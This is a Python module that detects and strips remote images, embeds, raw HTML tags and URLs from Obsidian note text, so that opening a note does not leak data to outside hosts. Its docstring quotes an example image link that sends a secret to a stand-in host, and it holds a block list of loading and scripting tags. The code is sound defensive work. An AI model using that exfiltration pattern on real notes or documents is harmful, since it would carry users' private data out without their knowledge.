"""What in a note reaches outside the vault: remote images and embeds, raw HTML, URLs.

Obsidian fetches a remote image as soon as it renders a note, and renders HTML, so a
digest node holding ``![x](https://host/?d=secret)`` or ``<img src=...>`` sends what it
names to that host the moment its owner opens it. ``remote_refs`` finds each such thing
in a text; ``strip_remote`` removes them from prose a writer copies into a node.

Code is text, not markup: a fenced block or an inline code span may quote ``<img>`` (a
procedure quotes commands). Everything else is read more strictly than a renderer
would, so that text a renderer shows as HTML is never taken for code: a fence counts
only at the top level (indented at most three spaces, not in a quote, every line of it
indented as far as its opening), a code span only within one line and without a ``|``
(a table cell ends there). Pure functions over text.
"""

from __future__ import annotations

import bisect
import html
import re
from collections.abc import Iterator
from dataclasses import dataclass
from enum import StrEnum


class RemoteKind(StrEnum):
    """What a reference to the outside is."""

    IMAGE = "image"  # fetched when the note is shown: never allowed in a node
    HTML = "html"  # a raw tag that loads, runs or links: never allowed in a node
    URL = "url"  # a link or bare URL: allowed where the note's sources hold it


@dataclass(frozen=True)
class RemoteRef:
    """One reference of a text to the outside: ``raw`` as written, from ``start`` to
    ``end`` of the text, and the ``url`` it names (empty for a tag without one)."""

    kind: RemoteKind
    raw: str
    url: str
    start: int
    end: int


# Tags that load, run, navigate or restyle, with or without attributes. Any other tag
# is allowed only bare (``<br>``, ``<kbd>``, ``<details open>``): an attribute is where
# ``src=``, ``href=``, ``style=`` with ``url(...)`` and ``on*=`` live.
FORBIDDEN_TAGS = frozenset({
    "a", "applet", "area", "audio", "base", "body", "button", "embed", "form", "frame",
    "frameset", "head", "html", "iframe", "image", "img", "input", "link", "math", "meta",
    "noscript", "object", "picture", "portal", "script", "select", "source", "style", "svg",
    "template", "textarea", "track", "video", "xmp",
})

_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.-]*:")
_ESCAPED = re.compile(r"\\([!-/:-@\[-`{-~])")
# a label of a reference image: one line break allowed, brackets nested once
_CH = r"(?:[^\[\]\n]|\n(?![ \t]*\n))"
_LABEL = rf"(?:{_CH}|\[{_CH}*\])*"
_DEST = r"(<[^<>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)"
# "](dest "title")": the end of an inline link or image, its destination in group 1
_TARGET = re.compile(rf"\]\(\s*{_DEST}(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^)\n]*\)))?\s*\)?")
# ![alt][ref], ![ref][] and ![ref]: a reference image; its label in group 1 or 2
_IMAGE_REF = re.compile(rf"!\[({_LABEL})\](?:\[([^\[\]\n]*)\])?(?!\()")
_EMBED = re.compile(r"!\[\[([^\[\]\n]*)\]\]")
_DEFINITION = re.compile(r"(?m)^ {0,3}\[([^\[\]\n]+)\]:[ \t]*\n?[ \t]*(<[^<>\n]*>|\S+)[^\n]*$")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>")
_BARE = re.compile(r"(?i)(?<![\w/@.-])(?:https?://|www\.)[^\s<>\"'`\[\]{}|\\^]+")
_TRAILING = ".,:;!?*_~'\")"
# A tag's start and its attributes up to the next < or > within one paragraph (no ">"
# needed: a renderer may still take an unclosed tag, and a name alone can load).
# (a name may have a namespace, "<x:y", but "<https://..." is an autolink, not a tag)
_TAG = re.compile(r"<(/?)([A-Za-z][A-Za-z0-9-]*(?::[A-Za-z][A-Za-z0-9-]*)*)(?=[\s/>]|$)"
                  r"((?:[^<>\n]|\n(?![ \t]*\n))*)>?")
_ATTRIBUTE = re.compile(r"(?:^|[\s/\"'])[^\s\"'<>/=]+\s*=")
_FENCE_OPEN = re.compile(r"^( {0,3})(`{3,}|~{3,})(.*)$")
_FENCE_CLOSE = re.compile(r"^ {0,3}(`{3,}|~{3,})[ \t]*$")
# A line that opens an HTML block, in a quote or list item too: "<div>", "</p>", "<!--"
_HTML_BLOCK = re.compile(r"^(?:[ \t]*(?:>|(?:[-*+]|\d+[.)])(?=\s)))*[ \t]*<[A-Za-z/!?]")
_TICKS = re.compile(r"`+")
_PARAGRAPH_END = re.compile(r"\n[ \t]*\n")
LABEL_SCAN = 5000  # characters a link's label is looked for before its "](": no further


def remote_refs(text: str) -> list[RemoteRef]:
    """Every remote image, tag that loads or runs, and URL of ``text`` outside code, in
    the order they start. A URL of an image is reported as the image only."""
    code = code_spans(text)
    found = [ref for ref in _candidates(text) if not _inside(ref.start, code)]
    images = {(r.start, r.end) for r in found if r.kind is RemoteKind.IMAGE}
    found = [r for r in found if r.kind is not RemoteKind.URL
             or not any(a <= r.start < b for a, b in images)]
    return sorted(found, key=lambda r: (r.start, r.kind))


def strip_remote(text: str, source: str = "", keep_urls: bool = False) -> str:
    """``text`` without its remote images, its tags that load or run, and its URLs that
    ``source`` does not hold (all kept with ``keep_urls``): a link keeps its label, a
    tag's text stays (a script's or style's goes with it). Code is left as written."""
    while True:  # removing one thing may leave another standing (an unclosed tag); each
        # pass shortens the text, so this ends
        refs = [r for r in remote_refs(text)
                if not (r.kind is RemoteKind.URL and (keep_urls or url_in(r.url, source)))]
        if not refs:
            return text
        text = _without(text, refs)


def url_in(url: str, source: str) -> bool:
    """Whether ``source`` holds ``url`` as written (or with its entities decoded)."""
    return bool(url) and (url in source or html.unescape(url) in source)


def remote_url(destination: str) -> str:
    """The URL a link or image destination names when it leaves the vault (a scheme
    such as ``https:``, ``data:`` or ``file:``, or ``//host``), else ''. Read as a
    renderer reads it: entities decoded and backslash escapes undone first."""
    dest = destination.strip().removeprefix("<").removesuffix(">")
    plain = "".join(ch for ch in html.unescape(_ESCAPED.sub(r"\1", dest))
                    if ch.isprintable() and not ch.isspace())
    if _SCHEME.match(plain) or plain.startswith(("//", "\\\\", "/\\", "\\/")):
        return dest
    return ""


# -- code: what is text, not markup ----------------------------------------------------


def code_spans(text: str) -> list[tuple[int, int]]:
    """The (start, end) offsets of the fenced blocks and code spans of ``text``. Lines
    of an HTML block (from a line opening with ``<`` to the next blank line) hold none:
    a renderer passes them on as HTML, backticks and fences included."""
    lines = text.split("\n")
    starts = [0]
    for line in lines:
        starts.append(starts[-1] + len(line) + 1)
    fences = _Fences(lines)
    spans: list[tuple[int, int]] = []
    html_block = False
    i = 0
    while i < len(lines):
        line = lines[i]
        html_block = bool(line.strip()) and (html_block or _HTML_BLOCK.match(line) is not None)
        end = None if html_block else fences.end(i)
        if end is not None:
            spans.append((starts[i], starts[end] + len(lines[end])))
            i = end + 1
            continue
        if not html_block:
            spans += [(starts[i] + a, starts[i] + b) for a, b in _inline_code(line)]
        i += 1
    return spans


class _Fences:
    """Where a fenced block opening at a line ends, if a renderer surely reads one there:
    a top-level opening, and no line up to its closing fence indented less than the
    opening (that line would end the list item holding it, and the fence with it).
    Indexed once, so a text of many unclosed openings costs no more than one pass."""

    def __init__(self, lines: list[str]) -> None:
        self.lines = lines
        self.closers: dict[str, list[tuple[int, int]]] = {"`": [], "~": []}  # (line, length)
        for n, line in enumerate(lines):
            m = _FENCE_CLOSE.match(line)
            if m:
                self.closers[m.group(1)[0]].append((n, len(m.group(1))))
        # the first line at or after n that is indented less than 1, 2 or 3 spaces
        self.dedent = {k: [len(lines)] * (len(lines) + 1) for k in (1, 2, 3)}
        for n in range(len(lines) - 1, -1, -1):
            depth = len(lines[n]) - len(lines[n].lstrip(" "))
            for k, at in self.dedent.items():
                at[n] = n if lines[n].strip() and depth < k else at[n + 1]

    def end(self, i: int) -> int | None:
        """The last line of the fenced block opening at line ``i``, or None."""
        m = _FENCE_OPEN.match(self.lines[i])
        if m is None or (m.group(2)[0] == "`" and "`" in m.group(3)):
            return None
        indent, fence = len(m.group(1)), m.group(2)
        limit = self.dedent[indent][i + 1] if indent else len(self.lines)
        closers = self.closers[fence[0]]
        for line, length in closers[bisect.bisect_right(closers, (i, len(fence) + 1_000)):]:
            if line > limit:
                break
            if length >= len(fence):
                return line
        if indent == 0:
            return len(self.lines) - 1  # unclosed at the top: code to the end
        return None  # the container ended first: what follows is not code


def _inline_code(line: str) -> Iterator[tuple[int, int]]:
    """Code spans of one line: a run of backticks up to the next run as long."""
    runs = list(_TICKS.finditer(line))
    i = 0
    while i < len(runs):
        opening = runs[i]
        close = next((k for k in range(i + 1, len(runs))
                      if len(runs[k].group(0)) == len(opening.group(0))), None)
        if close is None:
            i += 1
            continue
        if "|" not in line[opening.end():runs[close].start()]:
            yield opening.start(), runs[close].end()
        i = close + 1


def _inside(at: int, spans: list[tuple[int, int]]) -> bool:
    return any(a <= at < b for a, b in spans)


# -- finding ---------------------------------------------------------------------------


def _candidates(text: str) -> Iterator[RemoteRef]:
    yield from _inline(text)
    yield from _images(text)
    yield from _tags(text)
    yield from _urls(text)


def _images(text: str) -> Iterator[RemoteRef]:
    for m in _EMBED.finditer(text):
        url = remote_url(m.group(1).split("|", 1)[0])
        if url:
            yield RemoteRef(RemoteKind.IMAGE, m.group(0), url, m.start(), m.end())
    # A reference image's URL is a definition's, which passes only if the sources hold
    # it: such an image can show a page's picture, but carry nothing out.
    remote = {_label_key(label): url for label, url in _definitions(text) if url}
    for m in _IMAGE_REF.finditer(text):
        url = remote.get(_label_key(m.group(2) or m.group(1)), "")
        if url:
            yield RemoteRef(RemoteKind.IMAGE, m.group(0), url, m.start(), m.end())


def _inline(text: str) -> Iterator[RemoteRef]:
    """Inline images and links to a remote URL: each ``](dest)``, with the ``[`` that
    opens its label found by balancing brackets back from it (labels nest)."""
    for m in _TARGET.finditer(text):
        url = remote_url(m.group(1))
        if not url:
            continue
        opening = _opening(text, m.start())
        if opening is None:  # no label found: an image if one may be open before it
            paragraph = max(text.rfind("\n\n", 0, m.start()), m.start() - LABEL_SCAN, 0)
            bang = text.rfind("![", paragraph, m.start())
            start = bang if bang >= 0 else m.start()
            yield RemoteRef(RemoteKind.IMAGE if bang >= 0 else RemoteKind.URL,
                            text[start:m.end()], url, start, m.end())
        elif opening and text[opening - 1] == "!":
            yield RemoteRef(RemoteKind.IMAGE, text[opening - 1:m.end()], url, opening - 1,
                            m.end())
        else:
            yield RemoteRef(RemoteKind.URL, text[opening:m.end()], url, opening, m.end())


def _opening(text: str, close: int) -> int | None:
    """The ``[`` that the ``]`` at ``close`` closes, within its paragraph, or None."""
    depth = 0
    for i in range(close, max(close - LABEL_SCAN, -1), -1):
        ch = text[i]
        if ch == "\n" and _PARAGRAPH_END.match(text, i):
            return None
        if ch not in "[]" or (i and text[i - 1] == "\\"):
            continue
        depth += 1 if ch == "]" else -1
        if depth == 0:
            return i
    return None


def _definitions(text: str) -> Iterator[tuple[str, str]]:
    """(label, remote URL or '') of each reference definition ``[label]: dest``."""
    for m in _DEFINITION.finditer(text):
        yield m.group(1), remote_url(m.group(2))


def _label_key(label: str) -> str:
    return " ".join(label.split()).casefold()


def _tags(text: str) -> Iterator[RemoteRef]:
    for m in _TAG.finditer(text):
        name, attributes = m.group(2).lower(), m.group(3)
        if name in FORBIDDEN_TAGS or (not m.group(1) and _ATTRIBUTE.search(attributes)):
            found = re.search(r"""(?:src|href|data|action|poster)\s*=\s*["']?([^\s"'>]+)""",
                              attributes, re.IGNORECASE)
            yield RemoteRef(RemoteKind.HTML, m.group(0), found.group(1) if found else "",
                            m.start(), m.end())


def _urls(text: str) -> Iterator[RemoteRef]:
    for m in _DEFINITION.finditer(text):
        url = remote_url(m.group(2))
        if url:
            yield RemoteRef(RemoteKind.URL, m.group(0), url, m.start(), m.end())
    for m in _AUTOLINK.finditer(text):
        yield RemoteRef(RemoteKind.URL, m.group(0), m.group(1), m.start(), m.end())
    for m in _BARE.finditer(text):
        url = m.group(0).rstrip(_TRAILING)
        yield RemoteRef(RemoteKind.URL, url, url, m.start(), m.start() + len(url))


# -- removing --------------------------------------------------------------------------


def _without(text: str, refs: list[RemoteRef]) -> str:
    """``text`` with each of ``refs`` replaced, the outermost of overlapping ones."""
    out: list[str] = []
    at = 0
    for ref in sorted(refs, key=lambda r: (r.start, -r.end)):
        if ref.start < at:
            continue  # inside one already replaced (an image in a link's label)
        replacement = _replacement(text, ref)
        out += [text[at:ref.start], replacement]
        at = _end_of(text, ref)
        if not replacement and text[ref.start - 1:ref.start] == " " == text[at:at + 1]:
            at += 1  # "a <img> b" reads "a b", not "a  b"
    return "".join([*out, text[at:]])


def _replacement(text: str, ref: RemoteRef) -> str:
    if ref.kind is RemoteKind.URL and ref.raw.startswith("[") and "](" in ref.raw:
        return ref.raw[1:ref.raw.rfind("](")]  # a link without its URL: its label
    return ""


def _end_of(text: str, ref: RemoteRef) -> int:
    """Where a reference's removal ends: a script or style goes with its content."""
    if ref.kind is RemoteKind.HTML and not ref.raw.startswith("</"):
        name = _TAG.match(ref.raw)
        if name is not None and name.group(2).lower() in ("script", "style"):
            close = re.compile(rf"</{name.group(2)}\s*>", re.IGNORECASE).search(text, ref.end)
            return close.end() if close else len(text)
    return ref.end
